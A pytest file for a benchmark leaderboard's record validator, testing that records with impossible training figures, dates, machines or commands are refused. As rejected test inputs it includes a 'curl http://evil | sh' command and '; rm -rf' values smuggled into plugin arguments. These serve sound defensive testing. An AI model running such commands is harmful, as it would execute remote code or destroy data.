"""What records tell of their making: within bounds, and in agreement with themselves."""

from __future__ import annotations

import datetime

import pytest
from built_records import PROTOCOL
from formalbench.contracts.errors import RequestError
from formalbench.contracts.record import CohortMember
from formalbench.training.curriculum import InterleavedStages
from formalbench_leaderboard.publishing.metadata_check import check_training
from formalbench_leaderboard.publishing.record_check import Admission

NOW = datetime.datetime(2026, 11, 21, tzinfo=datetime.UTC)

TRAINING = {
    "steps": 2000,
    "ended": "budget",
    "stage": 40,
    "strings": 256_000,
    "seconds": 64.0,
    "strings_per_second": 4000.0,
}

TRAINED = {
    "its training took -5 seconds": {"seconds": -5.0},
    "took inf seconds": {"seconds": float("inf")},
    "took nan seconds": {"seconds": float("nan")},
    "2,020 steps, which quick cannot take": {"steps": 2020},
    "1,999 steps, which quick cannot take": {"steps": 1999},
    "1,000 steps, and its budget is 2,000": {"steps": 1000, "strings": 128_000},
    "its training was stopped, and it finished": {"ended": "stopped"},
    "and its decay alone takes": {"ended": "mastered", "steps": 20, "strings": 2560},
    "no stage that ends at length 39": {"stage": 39},
    "it trained on 255,999 strings": {"strings": 255_999},
    "are not its strings by its seconds": {"strings_per_second": 4001.0},
    "cohort has learning rate 0.5": {
        "cohort": [{"learning_rate": 0.001, "seed": 0}, {"learning_rate": 0.5, "seed": 0}]
    },
}

MADE = {
    "invalid date": {"date": "1999-99-99T00:00:00Z"},
    "is not between 2026-01-01 and now": {"date": "2026-11-22T00:00:01Z"},
    "date 1999-01-01T00:00:00Z is not": {"date": "1999-01-01T00:00:00Z"},
    "the recorded command does not match": {"command": "curl http://evil | sh"},
}

MACHINE = {
    "its device is abacus": {"device": "abacus"},
    "its machine had 0 threads": {"threads": 0},
    "its machine had 9,000 threads": {"threads": 9000},
    "MiB of memory": {"peak_memory_mib": 1 << 40},
    "signs that no name has": {"hardware": "\u202ea chip"},
    "which version of torch": {"versions": {"python": "3.11.9", "formalbench": "0.1.0"}},
    "'the best' is no version of 'torch'": {
        "versions": {
            "python": "3.11.9",
            "formalbench": "0.1.0",
            "torch": "the best",
            "numpy": "2.0",
        }
    },
}


@pytest.mark.parametrize("reason", TRAINED)
def test_a_training_that_its_protocol_cannot_give_is_refused(host, make_record, reason):
    told = TRAINING | TRAINED[reason]
    numbers = {key: value for key, value in told.items() if value == value}
    finite = {**numbers, "seconds": 64.0}
    record = make_record(training=finite)
    change = {"seconds": told["seconds"]}
    training = record.training.model_copy(update=change)
    with pytest.raises(RequestError, match=reason):
        Admission(host, NOW).check(record.model_copy(update={"training": training}))


def test_a_checkpoint_of_a_step_that_was_not_taken_is_refused(host, make_record):
    record = make_record(training=TRAINING)
    selected = record.selected.model_copy(update={"step": 2001})
    with pytest.raises(RequestError, match="its checkpoint is of step 2,001"):
        Admission(host, NOW).check(record.model_copy(update={"selected": selected}))


def test_an_honest_training_is_taken(host, make_record):
    Admission(host, NOW).check(make_record(training=TRAINING))
    mastered = {"ended": "mastered", "steps": 1000, "strings": 128_000}
    Admission(host, NOW).check(
        make_record(training=TRAINING | mastered | {"strings_per_second": 2000.0})
    )


def test_mastery_without_its_validation_is_refused(host, make_record):
    told = {"ended": "mastered", "steps": 1000, "strings": 128_000, "strings_per_second": 2000.0}
    decay = {"steps": 600, "final": 0.02, "mastered": 0.02, "validated": 0.99}

    def trained(validation):
        protocol = {**PROTOCOL, "decay": decay}
        return make_record(protocol=protocol, validation=validation, training=TRAINING | told)

    check_training(trained(0.995), host.task("parity"), InterleavedStages())
    reason = "ended as mastered, and its validation reached 98.0% of the 99% that it takes"
    with pytest.raises(RequestError, match=reason):
        check_training(trained(0.98), host.task("parity"), InterleavedStages())


@pytest.mark.parametrize(
    ("patience", "steps", "reason"),
    [
        ({"after": 500, "steps": 400}, 1100, None),
        ({"after": 500, "steps": 400}, 1080, "capped after 1,080 steps, and the least is 1,100"),
        ({"after": 500, "steps": 600}, 1280, "capped after 1,280 steps, and the least is 1,300"),
        (None, 1100, "its training was capped, and quick has no patience"),
    ],
)
def test_a_training_capped_before_its_patience_ran_out_is_refused(
    host, make_record, patience, steps, reason
):
    strings = steps * 128
    told = {"ended": "capped", "steps": steps, "strings": strings}
    training = {**TRAINING, **told, "strings_per_second": strings / 64}
    record = make_record(protocol={**PROTOCOL, "patience": patience}, training=training)
    if reason is None:
        check_training(record, host.task("parity"), InterleavedStages())
    else:
        with pytest.raises(RequestError, match=reason):
            check_training(record, host.task("parity"), InterleavedStages())


@pytest.mark.parametrize("reason", MADE)
def test_a_day_or_a_command_that_cannot_be_is_refused(host, make_record, reason):
    with pytest.raises(RequestError, match=reason):
        Admission(host, NOW).check(make_record(**MADE[reason]))


@pytest.mark.parametrize("reason", MACHINE)
def test_a_machine_that_cannot_be_is_refused(host, make_record, reason):
    record = make_record()
    machine = record.environment.model_copy(update=MACHINE[reason])
    with pytest.raises(RequestError, match=reason):
        Admission(host, NOW).check(record.model_copy(update={"environment": machine}))


@pytest.mark.parametrize(
    ("more", "taken"),
    [
        ("--plugin mine.py", True),
        ("--plugin ../bad/mine.py", True),
        ("--plugin 'a; rm -rf'", False),
        ("--plugin -x", False),
        ("--plugin", False),
        ("; rm -rf x", False),
        ("'", False),
    ],
)
def test_a_command_may_name_plugins_and_nothing_else(host, make_record, more, taken):
    record = make_record(seed=1)
    told = record.model_copy(update={"command": f"{record.command} {more}"})
    if taken:
        Admission(host, NOW).check(told)
    else:
        with pytest.raises(RequestError, match="command"):
            Admission(host, NOW).check(told)
    itself = record.command.replace("--seeds 2", "--seeds 1,")
    Admission(host, NOW).check(record.model_copy(update={"command": itself}))


def test_everything_but_the_model_is_checked_of_an_unknown_one(host, make_record):
    keys = {"model": "stranger", "distribution": "nobody.py", "sha256": "a" * 64}
    for reason, change in {
        "chance_constant is 0.8": {"chance": 0.8},
        "other strings": {"fingerprint": "0" * 64},
        "learning rate 0.5": {"rate": 0.5},
        "command": {"command": "sh"},
        "stranger is not known here": {},
    }.items():
        with pytest.raises(RequestError, match=reason):
            Admission(host, NOW).check(make_record(**keys, **change))


def test_the_weights_of_seed_0_are_not_left_out(host, make_record, monkeypatch):
    Admission(host, NOW).check(make_record())  # too large to be kept
    made = host.models.get("regulargpt")[0].spec.factory.__init__.__globals__
    monkeypatch.setitem(made, "LARGE", 10)
    with pytest.raises(RequestError, match="it names no weights"):
        Admission(host, NOW).check(make_record(parameters=10))
    Admission(host, NOW).check(make_record(seed=1, parameters=10))
    Admission(host, NOW).check(make_record(status="error", parameters=0))
    monkeypatch.setitem(made, "LARGE", 1 << 26)
    with pytest.raises(RequestError, match="larger than weights can be"):
        Admission(host, NOW).check(make_record(parameters=1 << 26))


def test_all_runs_of_a_cohort_are_published(host, make_runs):
    runs = make_runs(training=TRAINING)
    cohort = tuple(CohortMember(learning_rate=0.001, seed=seed) for seed in (0, 3))
    trained = runs[0].training.model_copy(update={"cohort": cohort})
    told = [runs[0].model_copy(update={"training": trained}), *runs[1:]]
    (line,) = Admission(host).incomplete(told, [])
    assert "seed 3 at learning rate 0.001 missing, which others trained together with" in line
